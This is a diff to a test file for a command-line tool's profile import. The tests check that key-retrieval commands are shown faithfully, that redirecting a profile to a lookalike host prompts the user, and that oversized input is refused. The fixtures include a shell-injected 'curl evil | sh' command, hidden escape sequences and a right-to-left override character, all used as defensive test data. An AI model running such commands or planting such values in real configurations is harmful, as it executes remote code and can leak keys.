@@ -82,9 +82,31 @@ describe('profiles import', () => {
     const script = await run('profiles import -', { stdin: text });
     expect([script.exitCode, errorOf(script).message]).toEqual([
       2,
-      'From now on, these commands will run to get the keys of their profiles: vault: op read op://shop/key.',
+      'From now on, these commands will run to get the keys of their profiles: vault, whose key goes to https://api.shop.example: op read op://shop/key.',
     ]);
     expect(JSON.parse((await run('profiles list')).stdout).length).toBe(1);
+  });
+
+  it('asks before a profile that replaces another guards less, or leads elsewhere', async () => {
+    const { run } = await withTwo();
+    const elsewhere = {
+      version: 1,
+      profiles: { live: { baseUrl: 'https://api.shop.example.evil.example' } },
+    };
+    const script = await run('profiles import - --replace', { stdin: JSON.stringify(elsewhere) });
+    expect([script.exitCode, errorOf(script).message]).toEqual([
+      2,
+      'The profile live would no longer be protected, and would lead to https://api.shop.example.evil.example, and no longer to https://api.shop.example.',
+    ]);
+    expect(JSON.parse((await run('profiles export live')).stdout).profiles.live.protected).toBe(true);
+  });
+
+  it('refuses what is too long to be an export', async () => {
+    const { run } = await configured();
+    for (const file of ['/dev/zero', '-'])
+      expect(
+        errorOf(await run(`profiles import ${file}`, { stdin: ' '.repeat(1024 * 1024 + 1) })).message,
+      ).toBe('FILE must be at most 1 MiB long.');
   });
 
   const withKey = (key: object) =>
@@ -93,14 +115,20 @@ describe('profiles import', () => {
       profiles: { live: { baseUrl: 'https://a.example', key: { store: 'command', ...key } } },
     });
   it.each([
-    [{ command: "echo  'a  b'" }, "live: echo 'a  b'"],
-    [{ command: 'echo a\n\nb' }, 'live: echo a b'],
-    [{ command: "echo 'a\n\u001b[8mb'" }, String.raw`live: echo 'a\u000a'"$(printf '\033')"'[8mb'`],
+    [{ command: "echo  'a  b'" }, "live, whose key goes to https://a.example: echo 'a  b'"],
+    [{ command: 'echo a\n\nb' }, 'live, whose key goes to https://a.example: echo a b'],
+    [
+      { command: "echo 'a\n\u001b[8mb'" },
+      String.raw`live, whose key goes to https://a.example: echo 'a\u000a'"$(printf '\033')"'[8mb'`,
+    ],
     [
       { command: 'id;\ncurl evil | sh', shell: true },
-      String.raw`live: through the shell: id;\u000acurl evil | sh`,
+      String.raw`live, whose key goes to https://a.example: through the shell: id;\u000acurl evil | sh`,
     ],
-    [{ command: 'a\u202eb', shell: true }, String.raw`live: through the shell: a\u202eb`],
+    [
+      { command: 'a\u202eb', shell: true },
+      String.raw`live, whose key goes to https://a.example: through the shell: a\u202eb`,
+    ],
   ])('shows the command as it would run: %j', async (key, shown) => {
     const { run } = await configured();
     const { exitCode, stderr } = await run('profiles import -', {
